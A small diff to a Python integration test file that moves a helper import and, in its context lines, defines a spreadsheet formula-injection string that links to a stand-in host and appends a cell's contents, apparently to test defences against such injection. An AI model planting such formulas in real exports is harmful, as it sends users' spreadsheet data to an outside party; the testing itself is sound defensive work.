@@ -8,12 +8,12 @@ from datetime import date, timedelta
 from decimal import Decimal
 
 import pytest
-from day_support import add_document, add_payment
 
 from app.db.engine import Database
 from app.domain.errors import PermissionDeniedError, ValidationError
 from app.domain.permissions import Actor
 from app.services.container import Services
+from tests.integration.day_support import add_document, add_payment
 
 D = Decimal
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
